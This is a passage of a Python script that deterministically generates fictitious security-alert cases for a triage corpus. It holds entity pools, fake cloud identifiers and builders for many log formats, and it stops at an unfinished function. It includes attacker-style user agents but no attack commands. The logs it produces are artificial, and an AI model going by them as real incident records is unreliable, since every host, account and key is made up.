#!/usr/bin/env python3
"""Deterministic generator for the triage prior-case corpus.

Writes corpus/cases/prior-cases.jsonl: closed cases, one JSON object a line, each with
1-3 native alerts (contract section 1), a disposition, severity, ATT&CK techniques, the
closing analyst's note, the catalog actions taken and the matching runbook id.

Stdlib only and seeded: running it twice produces byte-identical output.

    python3 corpus/tools/gen_cases.py [--out PATH] [--attack PATH/enterprise-attack.json]

Every scenario below is hand-written per runbook family. All people, hosts, accounts,
domains and keys are fictitious: IPs come from RFC 1918 / RFC 5737 ranges, domains from
example.com/.net/.org or the reserved .example TLD, keys and tokens are random or redacted.
"""
import argparse
import base64
import collections
import datetime as dt
import hashlib
import json
import os
import random
import re
import string
import sys

SEED = 20250611
rng = random.Random(SEED)

HERE = os.path.dirname(os.path.abspath(__file__))
DEFAULT_OUT = os.path.normpath(os.path.join(HERE, "..", "cases", "prior-cases.jsonl"))
DEFAULT_ATTACK = "/work/shared/attack/enterprise-attack.json"

CATALOG_ACTIONS = {
    "enrich_alert", "create_ticket", "collect_forensics", "notify_owner", "add_to_watchlist",
    "revoke_token", "rotate_secret", "disable_account", "isolate_host", "block_indicator",
    "kill_process", "quarantine_workload", "reset_password", "revoke_sessions",
    "remove_mailbox_rule", "quarantine_email", "revoke_oauth_grant", "contain_cloud_resource",
    "delete_resource", "change_org_policy",
}
SEVERITIES = ["informational", "low", "medium", "high", "critical"]
DISPOSITIONS = ["true_positive", "benign", "false_positive"]

# --------------------------------------------------------------------------------------
# Fictitious organisation: Example Corp. Pools are fixed lists; selection is seeded.
# --------------------------------------------------------------------------------------
ORG = "example-corp"
EMAIL_DOMAIN = "example.com"
AD_DOMAIN = "corp.example.com"
NETBIOS = "CORP"

FIRST = ["Maria", "James", "Aisha", "Chen", "Olga", "Tomasz", "Priya", "Diego", "Fatima", "Liam",
         "Noor", "Kenji", "Sofia", "Mateo", "Hannah", "Oluwaseun", "Ingrid", "Rahul", "Elena", "Marcus",
         "Yara", "Pieter", "Camila", "Dmitri", "Grace", "Ahmed", "Lucia", "Siobhan", "Wei", "Tobias",
         "Amara", "Jonas", "Keiko", "Rafael", "Nadia", "Owen", "Leila", "Bjorn", "Zanele", "Hugo",
         "Anika", "Caleb", "Mei", "Stefan", "Imani", "Viktor", "Rosa", "Arjun", "Freya", "Samuel"]
LAST = ["Okafor", "Lindqvist", "Haddad", "Nakamura", "Kowalski", "Fernandes", "Iyer", "Moreau",
        "Brennan", "Schultz", "Adeyemi", "Novak", "Castillo", "Park", "Huang", "Oyelaran", "Rossi",
        "Petrov", "Mensah", "Dubois", "Varga", "Whitfield", "Sato", "Alvarez", "Kaur", "Nilsen",
        "O'Neill", "Baptiste", "Kim", "Horvat", "Mbeki", "Jansen", "Quinn", "Ferreira", "Lund",
        "Abara", "Tanaka", "Ivanova", "Reyes", "Gallagher", "Chowdhury", "Muller", "Ortiz", "Sorensen"]
TEAMS = ["payments-team", "platform-eng", "sre", "data-eng", "it-helpdesk", "finance-systems",
         "hr-systems", "identity-team", "web-team", "ml-platform", "mobile-team", "corp-it",
         "devex", "risk-analytics", "customer-support", "legal-ops", "marketing-ops", "secops"]
DEPTS = ["FIN", "HR", "ENG", "MKT", "SAL", "OPS", "LEG", "SUP", "EXE", "IT"]
CITIES_HOME = [("London", "GB"), ("Dublin", "IE"), ("Amsterdam", "NL"), ("Austin", "US"),
               ("Toronto", "CA"), ("Berlin", "DE"), ("Singapore", "SG"), ("New York", "US")]
CITIES_FAR = [("Lagos", "NG"), ("Sao Paulo", "BR"), ("Jakarta", "ID"), ("Bucharest", "RO"),
              ("Ho Chi Minh City", "VN"), ("Almaty", "KZ"), ("Lima", "PE"), ("Manila", "PH"),
              ("Johannesburg", "ZA"), ("Seoul", "KR"), ("Sydney", "AU"), ("Mexico City", "MX")]
HOSTING_ASN = ["AS-CHOOPA-EXAMPLE", "DIGITALOCEAN-EXAMPLE", "M247-EXAMPLE", "OVH-EXAMPLE",
               "HETZNER-EXAMPLE", "LINODE-EXAMPLE", "SCALEWAY-EXAMPLE", "CONTABO-EXAMPLE"]
ISP_ASN = ["COMCAST-EXAMPLE", "BT-EXAMPLE", "VODAFONE-EXAMPLE", "ZIGGO-EXAMPLE", "ROGERS-EXAMPLE",
           "DTAG-EXAMPLE", "SINGTEL-EXAMPLE", "VERIZON-EXAMPLE"]
VPN_ASN = ["NORDVPN-EXAMPLE", "MULLVAD-EXAMPLE", "PROTONVPN-EXAMPLE", "EXPRESSVPN-EXAMPLE"]

AWS_ACCOUNTS = {}
for _name in ["prod-payments", "prod-core", "shared-services", "data-lake", "staging",
              "sandbox-dev", "security-audit", "log-archive", "ml-training", "corp-it"]:
    AWS_ACCOUNTS[_name] = "".join(rng.choice(string.digits[1:]) + "".join(rng.choice(string.digits) for _ in range(11)))
GCP_PROJECTS = ["exm-analytics-prod", "exm-ml-training", "exm-web-staging", "exm-data-platform",
                "exm-sandbox-7731", "exm-shared-vpc"]
AZ_SUBS = {}
for _name in ["corp-prod", "corp-dev", "identity", "analytics"]:
    AZ_SUBS[_name] = "%08x-%04x-4%03x-%04x-%012x" % (rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(12),
                                                      0x8000 | rng.getrandbits(14), rng.getrandbits(48))
REPOS = ["payments-api", "infra-terraform", "web-storefront", "ml-pipelines", "mobile-app",
         "helm-charts", "internal-tools", "data-contracts", "auth-service", "billing-worker",
         "docs-site", "search-indexer", "customer-portal", "platform-modules"]
AWS_REGIONS_USED = ["us-east-1", "eu-west-1", "us-west-2"]
AWS_REGIONS_UNUSED = ["ap-southeast-3", "sa-east-1", "me-south-1", "af-south-1", "ap-northeast-3",
                      "eu-south-2", "ap-south-2", "il-central-1"]
K8S_CLUSTERS = [("prod-eks-use1", "production"), ("prod-gke-euw1", "production"),
                ("stg-eks-use1", "staging"), ("aks-payments-prd", "production"), ("dev-kind-shared", "development")]
K8S_NAMESPACES = ["payments", "checkout", "search", "ingest", "web", "ml-serving", "billing", "auth", "reporting"]

# --------------------------------------------------------------------------------------
# Small random helpers
# --------------------------------------------------------------------------------------

def pick(seq):
    return rng.choice(list(seq))


def chance(p):
    return rng.random() < p


def hexs(n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def upper_alnum(n):
    return "".join(rng.choice(string.ascii_uppercase + string.digits) for _ in range(n))


def alnum(n):
    return "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(n))


def guid():
    return "%s-%s-4%s-%s%s-%s" % (hexs(8), hexs(4), hexs(3), pick("89ab"), hexs(3), hexs(12))


def sha256():
    return hexs(64)


def sha1():
    return hexs(40)


def md5():
    return hexs(32)


def aws_key():
    return "AKIA" + "".join(rng.choice(string.ascii_uppercase + "234567") for _ in range(16))


def aws_session_key():
    return "ASIA" + "".join(rng.choice(string.ascii_uppercase + "234567") for _ in range(16))


def int_ip(prefix=None):
    p = prefix or pick(["10.10", "10.20", "10.40", "10.60", "172.16", "172.20", "192.168"])
    if p.count(".") == 1:
        return "%s.%d.%d" % (p, rng.randint(1, 250), rng.randint(2, 250))
    return "%s.%d" % (p, rng.randint(2, 250))


def ext_ip():
    return "%s.%d" % (pick(["192.0.2", "198.51.100", "203.0.113"]), rng.randint(2, 254))


def ext_ip6():
    return "2001:db8:%x:%x::%x" % (rng.randint(1, 0xffff), rng.randint(1, 0xffff), rng.randint(1, 0xfff))


def b64_utf16(s):
    return base64.b64encode(s.encode("utf-16-le")).decode()


def slug(s):
    return re.sub(r"[^a-z0-9]+", "-", s.lower()).strip("-")


def rule_id(source, name):
    h = hashlib.sha1(("%s|%s" % (source, name)).encode()).hexdigest()
    if source == "suricata":
        return "sid:%d" % (2030000 + int(h[:6], 16) % 60000)
    if source == "crowdstrike":
        return "cs-ioa-%d" % (10000 + int(h[:5], 16) % 9000)
    if source == "waf":
        return "waf-%s" % h[:8]
    if source in ("aws-guardduty",):
        return "gd-%s" % h[:6]
    return "det-%s" % h[:10]


class Person:
    def __init__(self, first, last):
        self.first, self.last = first, last
        base = (first + "." + last).lower().replace("'", "")
        self.email = base + "@" + EMAIL_DOMAIN
        self.upn = self.email
        self.sam = (first[0] + last).lower().replace("'", "")
        self.win = NETBIOS + "\\" + self.sam
        self.name = first + " " + last
        self.gh = (first[0] + last).lower().replace("'", "") + pick(["", "-exm", "-dev", str(rng.randint(7, 99))])

    def __repr__(self):
        return self.name


# --------------------------------------------------------------------------------------
# Case context
# --------------------------------------------------------------------------------------
START = dt.datetime(2024, 2, 5, tzinfo=dt.timezone.utc)
END = dt.datetime(2026, 2, 20, tzinfo=dt.timezone.utc)


def iso(t):
    return t.astimezone(dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def iso_ms(t):
    return t.astimezone(dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)


T_SENTINELS = ("__T__", "__TMS__", "__TEPOCH__", "__TMSISO__", "__TWIN__")


def _fill_time(obj, t):
    if isinstance(obj, dict):
        return {k: _fill_time(v, t) for k, v in obj.items()}
    if isinstance(obj, list):
        return [_fill_time(v, t) for v in obj]
    if obj == "__T__":
        return iso(t)
    if obj == "__TMSISO__":
        return iso_ms(t)
    if obj == "__TMS__":
        return int(t.timestamp() * 1000)
    if obj == "__TEPOCH__":
        return round(t.timestamp() + rng.random(), 6)
    if obj == "__TWIN__":
        return t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % rng.randint(0, 999)
    if isinstance(obj, str) and "__TEPOCH__" in obj:
        return obj.replace("__TEPOCH__", "%.3f" % t.timestamp())
    return obj


class Case:
    """Per-case context: time base, entity pickers and the alert builder."""

    def __init__(self, t0):
        self.t0 = t0
        self.alerts = []
        self._people = []

    # ---- time
    def t(self, minutes=0.0):
        return self.t0 + dt.timedelta(minutes=minutes, seconds=rng.randint(0, 59))

    def day(self):
        return self.t0.strftime("%Y-%m-%d")

    def hhmm(self, minutes=0):
        return (self.t0 + dt.timedelta(minutes=minutes)).strftime("%H:%M")

    # ---- people and assets
    def person(self):
        while True:
            p = Person(pick(FIRST), pick(LAST))
            if all(p.email != q.email for q in self._people):
                self._people.append(p)
                return p

    def ws(self):
        r = rng.random()
        if r < 0.45:
            return "WS-%04d" % rng.randint(1000, 9800)
        if r < 0.85:
            return "LT-%s-%03d" % (pick(DEPTS), rng.randint(10, 480))
        return "%s-LT%04d" % (pick(["LON", "DUB", "AMS", "AUS", "TOR", "BER", "SIN", "NYC"]), rng.randint(100, 4999))

    def winsrv(self, role=None):
        role = role or pick(["FS", "APP", "SQL", "PRINT", "RDS", "FIN", "HR", "ERP", "CTX", "FILE"])
        return "SRV-%s%02d" % (role, rng.randint(1, 14))

    def dc(self):
        return pick(["DC01", "DC02", "CORP-DC03", "CORP-DC04", "DC-AMS-01", "DC-AUS-02"])

    def lnx(self, role=None, env=None):
        role = role or pick(["web", "api", "etl", "batch", "kafka", "redis", "nginx", "app", "worker", "db"])
        env = env or pick(["prod", "prod", "stg"])
        return "%s-%s-%02d" % (role, env, rng.randint(1, 24))

    def team(self):
        # One owning team per case: every alert of a case about the same workload
        # carries the same owner unless a scenario names another team explicitly.
        if not hasattr(self, "_team"):
            self._team = pick(TEAMS)
        return self._team

    def aws(self, name=None):
        name = name or pick([n for n in AWS_ACCOUNTS if n not in ("security-audit", "log-archive")])
        return name, AWS_ACCOUNTS[name]

    def repo(self):
        return ORG + "/" + pick(REPOS)

    def k8s(self):
        cl, env = pick(K8S_CLUSTERS)
        ns = pick(K8S_NAMESPACES)
        return cl, env, ns

    def pod(self, app):
        return "%s-%s-%s" % (app, hexs(rng.choice([9, 10])), alnum(5))

    # ---- alert builder
    def alert(self, source, rule, severity, fields, off=0.0, ents=None, asset=None, desc=None, rid=None):
        assert severity in SEVERITIES, severity
        t = self.t(off)
        r = {"id": rid or rule_id(source, rule), "name": rule, "severity": severity}
        if desc:
            r["description"] = desc
        a = {"id": "alrt-" + hexs(rng.choice([8, 10, 12])), "source": source, "time": iso(t), "rule": r}
        e = {}
        for k in ["users", "hosts", "ips", "service_accounts", "tokens", "cloud_accounts", "files",
                  "urls", "repositories"]:
            v = (ents or {}).get(k)
            if v:
                e[k] = list(dict.fromkeys(v))
        for k in (ents or {}):
            assert k in ("users", "hosts", "ips", "service_accounts", "tokens", "cloud_accounts", "files",
                         "urls", "repositories"), k
        if e:
            a["entities"] = e
        if asset:
            a["asset"] = {k: v for k, v in zip(("environment", "criticality", "owner"), asset) if v}
        a["fields"] = _fill_time(fields, t)
        self.alerts.append(a)
        return a


# --------------------------------------------------------------------------------------
# Raw-event builders, one per source format (field names follow each product's schema)
# --------------------------------------------------------------------------------------

def sysmon1(host, user, image, cmd, parent, pcmd=None, integrity="Medium", cwd=None, hashes=None):
    return {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host + "." + AD_DOMAIN,
            "UtcTime": "__TWIN__", "ProcessGuid": "{%s}" % guid().upper(), "ProcessId": rng.randint(900, 15000),
            "Image": image, "CommandLine": cmd, "CurrentDirectory": cwd or "C:\\Windows\\system32\\",
            "User": user, "IntegrityLevel": integrity,
            "Hashes": hashes or "SHA256=%s,IMPHASH=%s" % (sha256().upper(), md5().upper()),
            "ParentImage": parent, "ParentCommandLine": pcmd or parent, "ParentProcessId": rng.randint(400, 15000)}


def sysmon10(host, src_image, target_image, access, calltrace, src_user):
    return {"EventID": 10, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host + "." + AD_DOMAIN,
            "UtcTime": "__TWIN__", "SourceImage": src_image, "SourceProcessId": rng.randint(900, 15000),
            "TargetImage": target_image, "TargetProcessId": rng.randint(600, 900), "GrantedAccess": access,
            "CallTrace": calltrace, "SourceUser": src_user, "TargetUser": "NT AUTHORITY\\SYSTEM"}


def sysmon3(host, user, image, dip, dport, sip=None, dhost=None, proto="tcp"):
    f = {"EventID": 3, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host + "." + AD_DOMAIN,
         "UtcTime": "__TWIN__", "Image": image, "User": user, "Protocol": proto, "Initiated": True,
         "SourceIp": sip or int_ip(), "SourcePort": rng.randint(49152, 65000), "DestinationIp": dip,
         "DestinationPort": dport}
    if dhost:
        f["DestinationHostname"] = dhost
    return f


def sysmon11(host, user, image, target):
    return {"EventID": 11, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": host + "." + AD_DOMAIN,
            "UtcTime": "__TWIN__", "Image": image, "TargetFilename": target, "User": user}


def sysmon13(host, user, image, key, details):
    return {"EventID": 13, "EventType": "SetValue", "Channel": "Microsoft-Windows-Sysmon/Operational",
            "Computer": host + "." + AD_DOMAIN, "UtcTime": "__TWIN__", "Image": image, "TargetObject": key,
            "Details": details, "User": user}


def winsec(eid, host, **kw):
    f = {"EventID": eid, "Channel": "Security", "Computer": host + "." + AD_DOMAIN,
         "Provider": "Microsoft-Windows-Security-Auditing", "TimeCreated": "__T__"}
    f.update(kw)
    return f


def cs(host, user, detect, tactic, technique, cmd, image, parent, sev="High", disposition="Detect", extra=None):
    f = {"event_simpleName": "DetectionSummaryEvent", "ComputerName": host, "UserName": user,
         "DetectName": detect, "Tactic": tactic, "Technique": technique, "SeverityName": sev,
         "CommandLine": cmd, "FileName": image.split("\\")[-1], "FilePath": "\\Device\\HarddiskVolume3" + image[2:].rsplit("\\", 1)[0] + "\\",
         "ParentImageFileName": parent, "SHA256String": sha256(), "PatternDispositionDescription": disposition,
         "aid": hexs(32), "cid": hexs(32), "timestamp": "__TMS__"}
    if extra:
        f.update(extra)
    return f


def cloudtrail(name, source, ident, ip, ua, region="us-east-1", req=None, resp=None, err=None, acct=None, ro=False):
    f = {"eventVersion": "1.09", "eventTime": "__T__", "eventSource": source, "eventName": name,
         "awsRegion": region, "sourceIPAddress": ip, "userAgent": ua, "userIdentity": ident,
         "requestParameters": req, "responseElements": resp, "eventID": guid(), "readOnly": ro,
         "eventType": "AwsApiCall", "recipientAccountId": acct or ident.get("accountId")}
    if err:
        f["errorCode"], f["errorMessage"] = err
    return f


_PRINCIPAL_IDS = {}


def _principal_id(prefix, acct, name):
    k = (prefix, acct, name)
    if k not in _PRINCIPAL_IDS:
        _PRINCIPAL_IDS[k] = prefix + "".join(rng.choice(string.ascii_uppercase + "234567") for _ in range(17))
    return _PRINCIPAL_IDS[k]


def iam_user(acct, name, key=None):
    return {"type": "IAMUser", "principalId": _principal_id("AIDA", acct, name), "arn": "arn:aws:iam::%s:user/%s" % (acct, name),
            "accountId": acct, "accessKeyId": key or aws_key(), "userName": name}


def assumed(acct, role, session, key=None, mfa=False, src=None):
    rid = _principal_id("AROA", acct, role)
    i = {"type": "AssumedRole", "principalId": "%s:%s" % (rid, session),
         "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (acct, role, session), "accountId": acct,
         "accessKeyId": key or aws_session_key(),
         "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": rid,
                                              "arn": "arn:aws:iam::%s:role/%s" % (acct, role), "accountId": acct,
                                              "userName": role},
                            "attributes": {"creationDate": "__T__", "mfaAuthenticated": "true" if mfa else "false"}}}
    if src:
        i["sessionContext"]["sourceIdentity"] = src
    return i


def root_id(acct):
    return {"type": "Root", "principalId": acct, "arn": "arn:aws:iam::%s:root" % acct, "accountId": acct}


def gcp(method, service, principal, ip, ua, project, rtype, resname, req=None, sev="NOTICE", status=None):
    f = {"logName": "projects/%s/logs/cloudaudit.googleapis.com%%2Factivity" % project, "severity": sev,
         "timestamp": "__T__", "insertId": alnum(12),
         "protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "serviceName": service,
                          "methodName": method, "resourceName": resname,
                          "authenticationInfo": {"principalEmail": principal},
                          "requestMetadata": {"callerIp": ip, "callerSuppliedUserAgent": ua}},
         "resource": {"type": rtype, "labels": {"project_id": project}}}
    if req is not None:
        f["protoPayload"]["request"] = req
    if status is not None:
        f["protoPayload"]["status"] = status
    return f


def azact(op, caller, ip, sub, rg, provider_path, status="Succeeded", props=None, category="Administrative"):
    f = {"time": "__T__", "operationName": op, "category": category, "resultType": status,
         "caller": caller, "callerIpAddress": ip, "correlationId": guid(), "subscriptionId": sub,
         "resourceId": "/subscriptions/%s/resourceGroups/%s/providers/%s" % (sub, rg, provider_path),
         "level": "Informational"}
    if props:
        f["properties"] = props
    return f


def okta(event_type, actor, ip, city, country, ua, result="SUCCESS", reason=None, asorg=None, proxy=False,
         target=None, extra=None, display=None):
    f = {"uuid": guid(), "published": "__TMSISO__", "eventType": event_type,
         "displayMessage": display or event_type, "severity": "INFO" if result == "SUCCESS" else "WARN",
         "actor": {"id": "00u" + alnum(17), "type": "User", "alternateId": actor.email, "displayName": actor.name},
         "client": {"ipAddress": ip, "userAgent": {"rawUserAgent": ua},
                    "geographicalContext": {"city": city, "country": country}},
         "outcome": {"result": result, "reason": reason},
         "securityContext": {"asOrg": asorg or pick(ISP_ASN), "isProxy": proxy},
         "authenticationContext": {"externalSessionId": "idx" + alnum(22)}}
    if target:
        f["target"] = target
    if extra:
        f.update(extra)
    return f


def entra_signin(user, app, ip, city, country, err=0, ca="success", client="Browser", risk="none", ua=None,
                 device=None, authreq="multiFactorAuthentication", extra=None):
    f = {"category": "SignInLogs", "createdDateTime": "__T__", "userPrincipalName": user.upn,
         "userDisplayName": user.name, "appDisplayName": app, "ipAddress": ip,
         "location": {"city": city, "countryOrRegion": country},
         "status": {"errorCode": err, "failureReason": {0: None, 50126: "Invalid username or password",
                                                        50053: "Account is locked",
                                                        50074: "Strong Authentication is required",
                                                        500121: "Authentication failed during strong authentication request",
                                                        50158: "External security challenge not satisfied",
                                                        53003: "Access has been blocked by Conditional Access policies"}.get(err)},
         "conditionalAccessStatus": ca, "clientAppUsed": client, "riskLevelDuringSignIn": risk,
         "authenticationRequirement": authreq, "correlationId": guid(),
         "userAgent": ua or pick(UA_BROWSER),
         "deviceDetail": device or {"operatingSystem": "Windows10", "browser": "Edge 1%d.0" % rng.randint(20, 33),
                                    "isCompliant": False, "isManaged": False}}
    if extra:
        f.update(extra)
    return f


def entra_audit(activity, initiator, targets, details=None, result="success", category="ApplicationManagement"):
    f = {"category": "AuditLogs", "activityDateTime": "__T__", "activityDisplayName": activity,
         "loggedByService": "Core Directory", "result": result, "operationType": "Assign",
         "initiatedBy": initiator, "targetResources": targets, "correlationId": guid(), "auditCategory": category}
    if details:
        f["additionalDetails"] = [{"key": k, "value": v} for k, v in details.items()]
    return f


def gh(action, actor, ip, repo=None, ua=None, extra=None):
    f = {"@timestamp": "__TMS__", "created_at": "__TMS__", "action": action, "actor": actor, "org": ORG,
         "_document_id": alnum(22)}
    if ip:
        f["actor_ip"] = ip
        f["user_agent"] = ua or pick(UA_GIT)
        f["actor_location"] = {"country_code": pick(["US", "GB", "NL", "DE", "IE", "CA"])}
    if repo:
        f["repo"] = repo
    if extra:
        f.update(extra)
    return f


def gl(event, author, ip, entity_path, details=None):
    f = {"created_at": "__TMSISO__", "event_name": event, "author_name": author, "author_id": rng.randint(100, 9000),
         "entity_type": "Project", "entity_path": entity_path, "ip_address": ip,
         "details": details or {}}
    return f


def k8s(verb, user, groups, ips, uri, resource, ns, name=None, sub=None, code=200, ua="kubectl/v1.29.3 (linux/amd64) kubernetes/6813625",
        req=None, decision="allow", reason=None, stage="ResponseComplete"):
    f = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse" if req else "Metadata",
         "auditID": guid(), "stage": stage, "requestURI": uri, "verb": verb,
         "user": {"username": user, "groups": groups}, "sourceIPs": ips, "userAgent": ua,
         "objectRef": {"resource": resource, "namespace": ns, "apiVersion": "v1"},
         "responseStatus": {"metadata": {}, "code": code}, "requestReceivedTimestamp": "__TMSISO__",
         "annotations": {"authorization.k8s.io/decision": decision,
                         "authorization.k8s.io/reason": reason or ""}}
    if name:
        f["objectRef"]["name"] = name
    if sub:
        f["objectRef"]["subresource"] = sub
    if req:
        f["requestObject"] = req
    return f


def zeek_conn(src, dst, dport, orig_bytes, resp_bytes, duration, service=None, proto="tcp", state="SF"):
    return {"_path": "conn", "ts": "__TEPOCH__", "uid": "C" + "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(17)),
            "id.orig_h": src, "id.orig_p": rng.randint(32768, 65000), "id.resp_h": dst, "id.resp_p": dport,
            "proto": proto, "service": service, "duration": duration, "orig_bytes": orig_bytes,
            "resp_bytes": resp_bytes, "conn_state": state, "missed_bytes": 0, "history": "ShADadFf"}


def zeek_dns(src, query, qtype="A", rcode="NOERROR", answers=None, resolver=None):
    return {"_path": "dns", "ts": "__TEPOCH__", "uid": "C" + alnum(17), "id.orig_h": src,
            "id.orig_p": rng.randint(32768, 65000), "id.resp_h": resolver or "10.0.0.53", "id.resp_p": 53,
            "proto": "udp", "query": query, "qtype_name": qtype, "rcode_name": rcode, "answers": answers or [],
            "TTLs": [float(rng.choice([30, 60, 300]))] * len(answers or [])}


def zeek_ssl(src, dst, sni, ja3=None, ja3s=None, subject=None, validation="ok"):
    return {"_path": "ssl", "ts": "__TEPOCH__", "uid": "C" + alnum(17), "id.orig_h": src,
            "id.orig_p": rng.randint(32768, 65000), "id.resp_h": dst, "id.resp_p": 443, "version": "TLSv13",
            "server_name": sni, "ja3": ja3 or md5(), "ja3s": ja3s or md5(),
            "subject": subject or "CN=%s" % sni, "validation_status": validation, "established": True}


def suricata(src, sport, dst, dport, sig, category, sev=2, proto="TCP", app=None, http=None, action="allowed", extra=None):
    f = {"timestamp": "__TMSISO__", "flow_id": rng.randint(10 ** 14, 10 ** 15), "event_type": "alert",
         "src_ip": src, "src_port": sport, "dest_ip": dst, "dest_port": dport, "proto": proto,
         "alert": {"action": action, "gid": 1, "signature_id": 2030000 + rng.randint(0, 59999), "rev": rng.randint(1, 6),
                   "signature": sig, "category": category, "severity": sev}}
    if app:
        f["app_proto"] = app
    if http:
        f["http"] = http
    if extra:
        f.update(extra)
    return f


def proxy(user, src, url, method="GET", status=200, category="Uncategorized", action="allowed", bytes_out=None,
          bytes_in=None, ua=None, ctype=None, risk=None, extra=None):
    host = re.sub(r"^https?://", "", url).split("/")[0]
    f = {"datetime": "__T__", "user": user, "src_ip": src, "url": url, "host": host, "method": method,
         "status": status, "url_category": category, "action": action,
         "bytes_out": bytes_out if bytes_out is not None else rng.randint(400, 4000),
         "bytes_in": bytes_in if bytes_in is not None else rng.randint(1000, 90000),
         "user_agent": ua or pick(UA_BROWSER)}
    if ctype:
        f["content_type"] = ctype
    if risk is not None:
        f["risk_score"] = risk
    if extra:
        f.update(extra)
    return f


def o365(op, user, ip, workload="Exchange", params=None, result="Succeeded", extra=None):
    f = {"CreationTime": "__T__", "Id": guid(), "Operation": op, "Workload": workload, "UserId": user,
         "ClientIP": ip, "ResultStatus": result, "OrganizationId": "b7f0c1d2-0000-4000-8000-0000example"}
    if params is not None:
        f["Parameters"] = [{"Name": k, "Value": v} for k, v in params.items()]
    if extra:
        f.update(extra)
    return f


def gws(app, name, actor, ip, params):
    return {"id": {"time": "__TMSISO__", "applicationName": app, "uniqueQualifier": str(rng.randint(10 ** 17, 10 ** 18))},
            "actor": {"email": actor, "profileId": str(rng.randint(10 ** 20, 10 ** 21))}, "ipAddress": ip,
            "events": [{"type": app + "_event", "name": name,
                        "parameters": [{"name": k, "value": v} for k, v in params.items()]}]}


def auditd(host, typ, exe, comm, args, auid, uid="0", euid=None, key=None, cwd="/", tty="pts0", success="yes", syscall=None):
    f = {"hostname": host, "type": typ, "msg": "audit(__TEPOCH__:%d)" % rng.randint(1000, 999999),
         "ts": "__TEPOCH__", "exe": exe, "comm": comm, "auid": auid, "uid": uid, "euid": euid or uid,
         "tty": tty, "cwd": cwd, "success": success, "ses": rng.randint(1, 9000)}
    for i, a in enumerate(args):
        f["a%d" % i] = a
    f["argc"] = len(args)
    f["proctitle"] = " ".join(args)
    if key:
        f["key"] = key
    if syscall:
        f["syscall"] = syscall
    return f


def falco(rule, priority, output, of):
    return {"time": "__TMSISO__", "rule": rule, "priority": priority, "output": output, "source": "syscall",
            "hostname": of.get("k8s.node.name", "node"), "output_fields": of, "tags": ["container", "mitre"]}


def waf(ip, country, method, uri, args, action, rule_group, rule, ua, host, status=None, matched=None):
    f = {"timestamp": "__TMS__", "action": action, "terminatingRuleId": rule, "terminatingRuleType": "MANAGED_RULE_GROUP",
         "ruleGroupList": [{"ruleGroupId": rule_group, "terminatingRule": {"ruleId": rule, "action": action}}],
         "httpRequest": {"clientIp": ip, "country": country, "httpMethod": method, "uri": uri, "args": args,
                         "headers": [{"name": "Host", "value": host}, {"name": "User-Agent", "value": ua}],
                         "requestId": alnum(20)}}
    if status:
        f["responseCodeSent"] = status
    if matched:
        f["terminatingRuleMatchDetails"] = [{"conditionType": matched[0], "location": matched[1], "matchedData": matched[2]}]
    return f


def sshd_log(host, msg, prog="sshd", pid=None):
    return {"host": host, "program": prog, "pid": pid or rng.randint(1000, 60000), "facility": "authpriv",
            "timestamp": "__T__", "message": msg}


UA_BROWSER = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
]
UA_GIT = ["git/2.43.0", "git/2.45.1", "GitHub Desktop/3.3.12", "JGit/6.8.0", "go-github/v60", "Octokit.rb 8.1.0"]
UA_AWSCLI = ["aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0 exe/x86_64.ubuntu.22 prompt/off command/%s",
             "aws-cli/2.17.4 md/awscrt#0.20.11 ua/2.0 os/macos#23.4.0 md/arch#arm64 lang/python#3.11.9 md/pyimpl#CPython cfg/retry-mode#standard md/installer#source md/prompt#off md/command#%s",
             "aws-cli/1.29.62 Python/3.8.10 Windows/10 botocore/1.31.62 command/%s"]
UA_BOTO = ["Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#5.10.215 md/arch#x86_64 lang/python#3.9.18 cfg/retry-mode#legacy Botocore/1.34.69",
           "Boto3/1.28.2 Python/3.10.12 Linux/5.15.0-1051-aws Botocore/1.31.2",
           "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.2 md/GOOS#linux md/GOARCH#amd64 api/sts#1.28.6",
           "Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.44.0 (+https://registry.terraform.io/providers/hashicorp/aws) aws-sdk-go-v2/1.26.1"]
UA_ATTACK_CLOUD = ["python-requests/2.31.0", "Boto3/1.26.0 Python/3.11.4 Linux/6.2.0-kali3-amd64 Botocore/1.29.0",
                   "aws-cli/2.13.0 Python/3.11.4 Linux/6.3.0-kali1-amd64 exe/x86_64.kali.2023 prompt/off command/%s",
                   "Go-http-client/1.1", "TruffleHog", "curl/8.4.0"]


def awscli(cmd):
    return pick(UA_AWSCLI) % cmd


CURRENT = {}


def attack_ua(cmd="sts.get-caller-identity"):
    # An intruder uses one tool per case, so the user agent stays the same across the
    # case's alerts (only the CLI command suffix changes).
    u = CURRENT.get("attack_ua")
    if u is None:
        u = CURRENT["attack_ua"] = pick(UA_ATTACK_CLOUD)
    return u % cmd if "%s" in u else u


def evil_domain():
